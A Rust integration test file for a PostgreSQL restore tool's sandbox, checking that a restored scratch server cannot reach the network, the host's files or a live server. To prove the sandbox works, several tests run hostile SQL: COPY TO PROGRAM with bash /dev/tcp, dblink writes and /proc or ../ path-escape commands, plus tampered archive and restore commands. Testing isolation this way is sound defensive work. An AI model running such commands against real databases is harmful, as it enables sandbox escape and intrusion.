//! The sandbox: what a restored server may not do, how it ends, and what its last words mean.

use std::collections::BTreeMap;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use lifeboat::domain::check::{Broke, Stop};
use lifeboat::domain::config::{ScratchConfig, ScratchServer};
use lifeboat::domain::drill::{IsolationDemand, ScratchKind, ScratchPlan};
use lifeboat::domain::ids::RunId;
use lifeboat::domain::inventory::{Fingerprint, Role, Server as Source};
use lifeboat::domain::lsn::Lsn;
use lifeboat::domain::observed::Observed;
use lifeboat::domain::policy::PasswordSource;
use lifeboat::scratch::{Scratch, Started, sweep};

use crate::support::server::{Options, Server, command};

fn plan(kind: ScratchKind) -> ScratchPlan {
    let server = (kind == ScratchKind::Database).then(|| "other".parse().unwrap());
    let isolation = match kind {
        ScratchKind::Cluster => IsolationDemand::Required,
        ScratchKind::Database | ScratchKind::Folder => IsolationDemand::Preferred,
    };
    ScratchPlan { kind, server, isolation }
}

struct Ground {
    config: ScratchConfig,
    _folder: tempfile::TempDir,
}

fn ground() -> Ground {
    let folder = tempfile::Builder::new().prefix("lb-ground-").tempdir().unwrap();
    std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let dir = folder.path().join("scratch");
    let config = ScratchConfig { dir, user: "postgres".into(), preload: vec![], servers: BTreeMap::new() };
    Ground { config, _folder: folder }
}

fn fingerprint(server: &Server) -> Fingerprint {
    let role = Role {
        name: "postgres".into(),
        attributes: "superuser login createdb".into(),
        has_password: Observed::Absent,
        member_of: vec![],
    };
    Fingerprint {
        server: Source {
            system_identifier: server.sql("postgres", "select system_identifier from pg_control_system()"),
            version_num: server.sql("postgres", "show server_version_num").parse().unwrap(),
            version: server.sql("postgres", "show server_version"),
            data_checksums: true,
            in_recovery: false,
            timeline: 1,
            lsn: Lsn(0),
            clock: jiff::Timestamp::UNIX_EPOCH,
            wal_segment_bytes: 16 << 20,
            settings: BTreeMap::from([("max_connections".to_owned(), "123".to_owned())]),
        },
        roles: vec![role],
        tablespaces: vec![],
        databases: vec![],
        unseen: vec![],
        changed_meanwhile: vec![],
        shared: None,
    }
}

async fn provision(ground: &Ground, server: &Server) -> Scratch {
    let run = RunId(uuid::Uuid::now_v7());
    Scratch::provision(run, &plan(ScratchKind::Cluster), &ground.config, &server.programs, &[]).await.unwrap()
}

/// A base backup, with the programs of everybody, into the scratch's data folder.
fn copy(server: &Server, data_dir: &Path) {
    let taken = command(&server.programs.path("pg_basebackup"))
        .args(["-h", server.socket_dir.to_str().unwrap(), "-U", "postgres", "-c", "fast", "-X", "stream", "-D"])
        .arg(data_dir)
        .output()
        .unwrap();
    assert!(taken.status.success(), "{}", String::from_utf8_lossy(&taken.stderr));
}

async fn ask(scratch: &Scratch, sql: &str) -> Result<String, String> {
    let client = scratch.server().unwrap().connect().await.unwrap();
    let rows = client.simple_query(sql).await.map_err(|error| format!("{:?}", error.as_db_error()))?;
    let first = rows.iter().find_map(|row| match row {
        tokio_postgres::SimpleQueryMessage::Row(row) => Some(row.get(0).unwrap_or_default().to_owned()),
        _ => None,
    });
    Ok(first.unwrap_or_default())
}

/// Whether anything connects to the listener within a moment.
fn was_reached(listener: &TcpListener) -> bool {
    listener.set_nonblocking(true).unwrap();
    for _ in 0..20 {
        if listener.accept().is_ok() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    false
}

fn left_in(dir: &Path) -> Vec<String> {
    let names = std::fs::read_dir(dir).into_iter().flatten().flatten();
    names.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect()
}

/// Numbers of the processes that work in a folder.
fn working_in(dir: &Path) -> Vec<PathBuf> {
    let procs = std::fs::read_dir("/proc").unwrap().flatten();
    procs
        .filter_map(|proc| std::fs::read_link(proc.path().join("cwd")).ok())
        .filter(|cwd| cwd.starts_with(dir))
        .collect()
}

#[tokio::test]
async fn a_hostile_copy_runs_and_reaches_nothing() {
    let server = Server::start();
    let ground = ground();
    server.sql("postgres", "create table t as select generate_series(1, 1000) i");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let attack = format!("copy (select 1) to program 'bash -c \"echo hello > /dev/tcp/127.0.0.1/{port}\"'");
    server.sql("postgres", &attack);
    assert!(was_reached(&listener), "the attack works where there is no sandbox");

    let mut scratch = provision(&ground, &server).await;
    let data_dir = scratch.data_dir().unwrap().to_owned();
    copy(&server, &data_dir);
    let marker = ground.config.dir.parent().unwrap().join("archived");
    let hostile = format!(
        "archive_mode = on\narchive_command = 'touch {0}'\nshared_preload_libraries = 'no_such_library'\nlisten_addresses = '*'\nrestore_command = 'touch {0}'\n",
        marker.display()
    );
    for name in ["postgresql.conf", "postgresql.auto.conf"] {
        let old = std::fs::read_to_string(data_dir.join(name)).unwrap();
        std::fs::write(data_dir.join(name), old + &hostile).unwrap();
    }
    std::fs::write(data_dir.join("standby.signal"), "").unwrap();
    std::fs::write(data_dir.join("postmaster.pid"), "1\n/somewhere\n").unwrap();
    std::fs::write(data_dir.join("pg_hba.conf"), "local all all reject\n").unwrap();

    let started = scratch.start(&fingerprint(&server), None).await.unwrap();
    assert!(started.next_xid > 3 && started.replayed_to > Lsn(0) && started.timeline == 1, "{started:?}");
    assert_eq!(ask(&scratch, "select count(*) from t").await.unwrap(), "1000");
    assert_eq!(ask(&scratch, "show listen_addresses").await.unwrap(), "");
    assert_eq!(ask(&scratch, "show max_connections").await.unwrap(), "123", "recovery's settings are the source's");
    let isolation = scratch.isolation();
    assert!(isolation.network, "{isolation:?}");
    if rustix::process::geteuid().is_root() {
        assert_ne!(isolation.user, "root");
    }
    let error = ask(&scratch, &attack).await.unwrap_err();
    assert!(error.contains("failed"), "{error}");
    assert!(!was_reached(&listener), "nothing reached the host");
    // What listens in there can be seen by the server itself: nothing but a socket file.
    let sql =
        "create temp table l(t text); copy l from program 'cat /proc/net/tcp /proc/net/tcp6'; select count(*) from l";
    assert_eq!(ask(&scratch, sql).await.unwrap(), "2", "two headings, and no TCP socket");
    ask(&scratch, "select pg_switch_wal()").await.unwrap();
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(!marker.exists(), "no archive_command ran");

    let mode = std::fs::metadata(data_dir.parent().unwrap()).unwrap().permissions().mode();
    assert_eq!(mode & 0o7777, 0o700);
    scratch.destroy().await.unwrap();
    assert_eq!(left_in(&ground.config.dir), Vec::<String>::new());
    assert_eq!(working_in(&ground.config.dir), Vec::<PathBuf>::new());
}

#[tokio::test]
async fn an_empty_cluster_starts_and_a_forgotten_one_is_removed() {
    let server = Server::start();
    let ground = ground();
    let mut scratch = provision(&ground, &server).await;
    let mut source = fingerprint(&server);
    source.roles[0].name = "boss".to_owned();
    scratch.prepare_empty(&source).await.unwrap();
    scratch.start(&source, None).await.unwrap();
    assert_eq!(ask(&scratch, "select current_user").await.unwrap(), "boss");
    assert_eq!(ask(&scratch, "show data_checksums").await.unwrap(), "on");
    assert_eq!(ask(&scratch, "show wal_level").await.unwrap(), "minimal");
    drop(scratch);
    assert_eq!(left_in(&ground.config.dir), Vec::<String>::new(), "dropping it removes it");
    assert_eq!(working_in(&ground.config.dir), Vec::<PathBuf>::new());
}

#[tokio::test]
async fn a_long_folder_gets_its_socket_elsewhere_and_both_go() {
    let server = Server::start();
    let mut ground = ground();
    ground.config.dir = ground.config.dir.join("a-folder-with-a-name-that-is-much-too-long-for-the-path-of-a-socket");
    let mut scratch = provision(&ground, &server).await;
    let source = fingerprint(&server);
    scratch.prepare_empty(&source).await.unwrap();
    scratch.start(&source, None).await.unwrap();
    let elsewhere = Path::new("/tmp").join(scratch.name());
    assert!(elsewhere.is_dir());
    scratch.destroy().await.unwrap();
    assert!(!elsewhere.exists());
}

#[tokio::test]
async fn what_a_killed_run_left_is_swept_and_nothing_else() {
    let server = Server::start();
    let ground = ground();
    let mut scratch = provision(&ground, &server).await;
    let source = fingerprint(&server);
    scratch.prepare_empty(&source).await.unwrap();
    scratch.start(&source, None).await.unwrap();
    let name = scratch.name().to_owned();
    std::mem::forget(scratch);
    for other in ["lifeboat-prod", "data"] {
        std::fs::create_dir(ground.config.dir.join(other)).unwrap();
    }
    let precious = ground.config.dir.parent().unwrap().join("precious");
    std::fs::create_dir(&precious).unwrap();
    let link = format!("lifeboat-{}", uuid::Uuid::now_v7());
    std::os::unix::fs::symlink(&precious, ground.config.dir.join(&link)).unwrap();

    let (swept, broken) = sweep(&ground.config, &|_| true).await;
    assert_eq!((swept, broken), (vec![], vec![]), "a run that lives keeps its scratch");
    assert!(!working_in(&ground.config.dir).is_empty());
    let (swept, broken) = sweep(&ground.config, &|_| false).await;
    assert_eq!((swept, broken), (vec![name], vec![]));
    assert_eq!(working_in(&ground.config.dir), Vec::<PathBuf>::new());
    let mut left = left_in(&ground.config.dir);
    left.sort();
    let mut wanted = vec!["data".to_owned(), link, "lifeboat-prod".to_owned()];
    wanted.sort();
    assert_eq!(left, wanted);
    assert!(precious.is_dir());
}

/// Copies a server, breaks the copy, and starts it.
async fn start_broken(
    options: Options,
    sql: &str,
    breakage: impl Fn(&Path, &mut ScratchConfig),
) -> Result<Started, Stop> {
    let server = Server::start_with(options);
    let mut ground = ground();
    for line in sql.lines() {
        server.sql("postgres", line);
    }
    breakage(Path::new(""), &mut ground.config);
    let mut scratch = provision(&ground, &server).await;
    let data_dir = scratch.data_dir().unwrap().to_owned();
    copy(&server, &data_dir);
    breakage(&data_dir, &mut ground.config);
    let source = fingerprint(&server);
    let outcome = scratch.start(&source, None).await;
    scratch.destroy().await.unwrap();
    assert_eq!(left_in(&ground.config.dir), Vec::<String>::new());
    outcome
}

fn code(outcome: Result<Started, Stop>) -> String {
    match outcome {
        Err(Stop::Found(findings)) => {
            println!("{}", findings[0].message);
            findings[0].code.clone()
        }
        other => panic!("a finding was expected: {other:?}"),
    }
}

fn broke(outcome: Result<Started, Stop>) -> Broke {
    match outcome {
        Err(Stop::Broke(broke)) => broke,
        other => panic!("an error was expected: {other:?}"),
    }
}

#[tokio::test]
async fn bad_data_are_a_finding() {
    let cut_control = |data: &Path, _: &mut ScratchConfig| {
        if data != Path::new("") {
            let file = std::fs::OpenOptions::new().write(true).open(data.join("global/pg_control")).unwrap();
            file.set_len(100).unwrap();
        }
    };
    assert_eq!(code(start_broken(Options::default(), "", cut_control).await), "control_file");
    let no_log = |data: &Path, _: &mut ScratchConfig| {
        if data != Path::new("") {
            for entry in std::fs::read_dir(data.join("pg_wal")).unwrap().flatten() {
                if entry.file_type().unwrap().is_file() {
                    std::fs::remove_file(entry.path()).unwrap();
                }
            }
        }
    };
    let found = code(start_broken(Options::default(), "", no_log).await);
    assert!(["checkpoint_record", "wal_missing"].contains(&found.as_str()), "{found}");
    let no_database = |data: &Path, _: &mut ScratchConfig| {
        if data != Path::new("") {
            let mut folders: Vec<u32> = left_in(&data.join("base")).iter().map(|name| name.parse().unwrap()).collect();
            folders.sort_unstable();
            let newest = folders.pop().unwrap();
            std::fs::remove_dir_all(data.join("base").join(newest.to_string())).unwrap();
        }
    };
    let outcome = start_broken(Options::default(), "create database shop\ncheckpoint", no_database).await;
    let Err(Stop::Found(findings)) = outcome else { panic!("{outcome:?}") };
    assert_eq!(findings[0].object, "database shop");
}

#[tokio::test]
async fn a_machine_that_cannot_is_an_error() {
    let missing_library = |data: &Path, config: &mut ScratchConfig| {
        if data == Path::new("") {
            config.preload = vec!["no_such_library".to_owned()];
        }
    };
    let broken = broke(start_broken(Options::default(), "", missing_library).await);
    assert!(broken.error.contains("no_such_library"), "{broken:?}");

    let other_locale = "create database shop\n\
        update pg_database set datcollate = 'xx_XX.UTF-8', datctype = 'xx_XX.UTF-8' where datname = 'shop'";
    let broken = broke(start_broken(Options::default(), other_locale, |_, _| {}).await);
    assert!(broken.error.contains("shop") && broken.error.contains("locale"), "{broken:?}");
    assert!(broken.hint.unwrap().contains("locale"));
}

#[tokio::test]
async fn a_scratch_server_that_is_a_source_is_refused_by_its_identifier() {
    let server = Server::start();
    let mut ground = ground();
    let other =
        ScratchServer { url: server.url("postgres"), password: PasswordSource::Default, tls: None, tls_ca: None };
    ground.config.servers.insert("other".parse().unwrap(), other);
    let source = fingerprint(&server).server.system_identifier;
    let plan = plan(ScratchKind::Database);
    let run = RunId(uuid::Uuid::now_v7());
    let make = |sources: Vec<String>| {
        let (plan, config, programs) = (plan.clone(), ground.config.clone(), server.programs.clone());
        async move { Scratch::provision(run, &plan, &config, &programs, &sources).await }
    };
    let refused = make(vec!["7".to_owned(), source.clone()]).await.unwrap_err();
    assert!(refused.error.contains(&source) && refused.error.contains("refused"), "{refused:?}");

    server.sql("postgres", "create database \"lifeboat-prod\"");
    let scratch = make(vec!["7".to_owned()]).await.unwrap();
    let renamed = scratch.rename(&["orders".to_owned(), "stock".to_owned()]);
    assert_eq!(renamed[0], ("orders".to_owned(), format!("lifeboat-{run}-1")));
    for (_, name) in &renamed {
        server.sql("postgres", &format!("create database \"{name}\""));
        // A subscription keeps its database from being dropped.
        let publisher =
            "connection 'host=/nowhere dbname=x' publication p with (connect = false, slot_name = 'theirs')";
        server.sql(name, &format!("create subscription \"s {name}\" {publisher}"));
    }
    assert!(!scratch.isolation().network);
    scratch.destroy().await.unwrap();
    const LIST: &str = "select string_agg(datname, ' ' order by datname) from pg_database where not datistemplate";
    assert_eq!(server.sql("postgres", LIST), "lifeboat-prod postgres");

    // What a killed run left on the server is swept; what only looks like it is not.
    let name = format!("lifeboat-{run}-1");
    server.sql("postgres", &format!("create database \"{name}\""));
    let (swept, broken) = sweep(&ground.config, &|_| true).await;
    assert_eq!((swept, broken), (vec![], vec![]));
    let (swept, broken) = sweep(&ground.config, &|_| false).await;
    assert_eq!((swept, broken), (vec![name], vec![]));
    assert_eq!(server.sql("postgres", LIST), "lifeboat-prod postgres");

    let strict = ScratchPlan { isolation: IsolationDemand::Required, ..plan };
    let refused = Scratch::provision(run, &strict, &ground.config, &server.programs, &[]).await.unwrap_err();
    assert!(refused.error.contains("network"), "{refused:?}");
}

#[tokio::test]
async fn a_socket_or_a_file_of_the_machine_is_out_of_reach() {
    let (live, server, ground) = (Server::start(), Server::start(), ground());
    live.sql("postgres", "create table precious(i int)");
    let folder = live.socket_dir.display();
    let listing = format!("create temp table l(t text); copy l from program 'ls -a {folder}'; select count(*) from l");
    let link = format!(
        "select dblink_exec('host={folder} port={} user=postgres dbname=postgres', 'insert into precious values (1)')",
        live.port
    );
    let proc = format!("ls /proc/*/root{folder}/.s.PGSQL.{}", live.port);
    let climb = format!("ls ../../../../../../../../..{folder}");
    let handles = format!("for f in /proc/self/fd/*; do ls $f/../../..{folder} $f/socket && exit 0; done; exit 1");
    // Where there is no sandbox, both ways are open: the same user, the same machine.
    server.sql("postgres", "create extension dblink");
    server.sql("postgres", &listing);
    server.sql("postgres", &link);
    assert_eq!(live.sql("postgres", "select count(*) from precious"), "1");

    let mut scratch = provision(&ground, &server).await;
    copy(&server, scratch.data_dir().unwrap());
    scratch.start(&fingerprint(&server), None).await.unwrap();
    let isolation = scratch.isolation();
    assert!(isolation.network && isolation.files && isolation.processes, "{isolation:?}");
    assert!(isolation.means.contains("-m"), "{isolation:?}");
    let error = ask(&scratch, &link).await.unwrap_err();
    assert!(error.contains("No such file or directory"), "{error}");
    assert!(ask(&scratch, &listing).await.is_err());
    for program in [proc, climb, handles] {
        let sql = format!("copy (select 1) to program '{program}'");
        assert!(ask(&scratch, &sql).await.is_err(), "{program}");
    }
    assert_eq!(live.sql("postgres", "select count(*) from precious"), "1", "nothing was written to the live server");
    scratch.destroy().await.unwrap();
    assert_eq!(left_in(&ground.config.dir), Vec::<String>::new());
    assert_eq!(working_in(&ground.config.dir), Vec::<PathBuf>::new());
}
